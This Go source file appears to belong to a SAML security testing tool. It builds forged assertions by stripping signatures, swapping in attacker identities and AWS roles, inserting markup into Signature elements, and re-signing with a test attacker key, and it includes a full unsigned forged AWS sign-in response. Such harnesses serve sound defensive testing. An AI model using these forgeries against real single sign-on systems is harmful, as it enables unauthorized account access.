package hostile

import (
	"crypto/sha256"
	"encoding/base64"
	"strings"

	"github.com/samlcheck/samlcheck/internal/xmlsig"
	"github.com/samlcheck/samlcheck/saml/samltest"
)

const (
	protocolSpace  = "urn:oasis:names:tc:SAML:2.0:protocol"
	assertionSpace = "urn:oasis:names:tc:SAML:2.0:assertion"
	metadataSpace  = "urn:oasis:names:tc:SAML:2.0:metadata"
	signatureSpace = xmlsig.Space
	awsAttribute   = "https://aws.amazon.com/SAML/Attributes/"
	elsewhere      = "https://example.com/ns"
	user           = "dana.fixture@example.com"
)

// forgedID is the ID of what is not signed.
const forgedID = "_attacker-0000-4000-8000-000000000000"

// The places of values that attackers want to be others.
const (
	nameID     = "Assertion/Subject/NameID"
	audience   = "Assertion/Conditions/AudienceRestriction/Audience"
	statement  = "Assertion/AttributeStatement"
	roles      = statement + "/Attribute(Role)"
	session    = statement + "/Attribute(RoleSessionName)"
	bearer     = "Assertion/Subject/SubjectConfirmation"
	bearerData = bearer + "/SubjectConfirmationData"
	signature  = "Assertion/Signature"
	signedInfo = signature + "/SignedInfo"
	reference  = signedInfo + "/Reference"
)

// forge puts the attacker's values in the place of the user's.
func forge(text string) string {
	return strings.NewReplacer(
		user, Mark+"@example.com", `EXAMPLE\dana`, `EXAMPLE\`+Mark, "G-2f0c1e2d-0000-4000-8000-00000000a003", "G-"+Mark,
		":role/Admin", ":role/"+Mark, ":role/Auditors", ":role/"+Mark+"-too", ">red<", ">"+Mark+"<",
	).Replace(text)
}

// forged gives the Assertion without its Signature, with the attacker's values
// and this ID; the ID that it has for the empty one.
func (p *paper) forged(id string) string {
	f := &paper{text: p.text, err: p.err}
	if f.has(signature) {
		f.drop(signature)
	}
	if id != "" {
		f.set("Assertion", "ID", id)
	}
	raw := forge(f.raw("Assertion"))
	if f.err != nil {
		p.fail("%w", f.err)
	}
	return raw
}

// A corner is a place inside a Signature.
type corner string

const (
	last    corner = "last"
	first   corner = "first"
	keyInfo corner = "keyinfo"
	object  corner = "object"
)

// insert puts markup into a Signature.
func (p *paper) insert(sig string, at corner, markup string) string {
	i := strings.LastIndex(sig, "</")
	switch at {
	case first:
		i = strings.Index(sig, ">") + 1
	case keyInfo:
		inner := strings.LastIndex(sig[:max(i, 0)], "KeyInfo>")
		i = strings.LastIndex(sig[:max(inner, 0)], "</")
	case object:
		name := "Object"
		if prefix, _, ok := strings.Cut(strings.TrimPrefix(sig[:strings.IndexAny(sig, " >")], "<"), ":"); ok {
			name = prefix + ":Object"
		}
		markup = "<" + name + ">" + markup + "</" + name + ">"
	}
	if i < 0 {
		p.fail("there is no %s in the Signature", at)
		return sig
	}
	return sig[:i] + markup + sig[i:]
}

// signedByAttacker signs the element of this ID with the attacker's key.
func (p *paper) signedByAttacker(id string, tune ...func(*xmlsig.SignOptions)) {
	if p.err != nil {
		return
	}
	key, err := samltest.AttackerKey.Signer("")
	if err != nil {
		p.fail("%w", err)
		return
	}
	cert, err := samltest.AttackerKey.Certificate("")
	if err != nil {
		p.fail("%w", err)
		return
	}
	o := xmlsig.SignOptions{Key: key, Certificates: [][]byte{cert.Raw}}
	for _, change := range tune {
		change(&o)
	}
	text, err := xmlsig.Sign([]byte(p.text), id, o)
	if err != nil {
		p.fail("%w", err)
		return
	}
	p.text = string(text)
}

// forgery makes all of an unsigned response the attacker's.
func forgery(p *paper) { p.text = forge(p.text) }

// digest gives the digest of an element without its Signature, as most providers
// digest it.
func (p *paper) digest(path string) string {
	e := p.find(path)
	octets, err := xmlsig.Canonicalize(nil, e, child(e, "Signature"), xmlsig.ExclusiveC14N, nil)
	if err != nil {
		p.fail("%w", err)
	}
	sum := sha256.Sum256(octets)
	return base64.StdEncoding.EncodeToString(sum[:])
}

// A whole response that nobody signed, and its Assertion.
const (
	forgedAssertion = `<Assertion xmlns="` + assertionSpace + `" ID="` + forgedID + `" IssueInstant="2026-09-11T11:00:00Z" Version="2.0">` + forgedIssuer +
		`<Subject><NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">attacker@example.com</NameID>` +
		`<SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><SubjectConfirmationData NotOnOrAfter="2026-09-11T12:00:00Z" Recipient="https://signin.aws.amazon.com/saml"/></SubjectConfirmation></Subject>` +
		`<Conditions NotBefore="2026-09-11T10:55:00Z" NotOnOrAfter="2026-09-11T12:00:00Z"><AudienceRestriction><Audience>https://signin.aws.amazon.com/saml</Audience></AudienceRestriction></Conditions>` +
		`<AttributeStatement><Attribute Name="` + awsAttribute + `RoleSessionName"><AttributeValue>attacker@example.com</AttributeValue></Attribute>` +
		`<Attribute Name="` + awsAttribute + `Role"><AttributeValue>arn:aws:iam::111122223333:role/attacker,arn:aws:iam::111122223333:saml-provider/WAAD</AttributeValue></Attribute></AttributeStatement>` +
		`<AuthnStatement AuthnInstant="2026-09-11T10:59:00Z" SessionIndex="_s"><AuthnContext><AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:Password</AuthnContextClassRef></AuthnContext></AuthnStatement></Assertion>`
	forgedIssuer   = `<Issuer xmlns="` + assertionSpace + `">https://sts.windows.net/5f0c1e2d-0000-4000-8000-00000000a001/</Issuer>`
	forgedResponse = `<samlp:Response xmlns:samlp="` + protocolSpace + `" ID="_attacker-response" Version="2.0" IssueInstant="2026-09-11T11:00:00Z" Destination="https://signin.aws.amazon.com/saml">` +
		forgedIssuer + `<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>` + forgedAssertion + `</samlp:Response>`
)
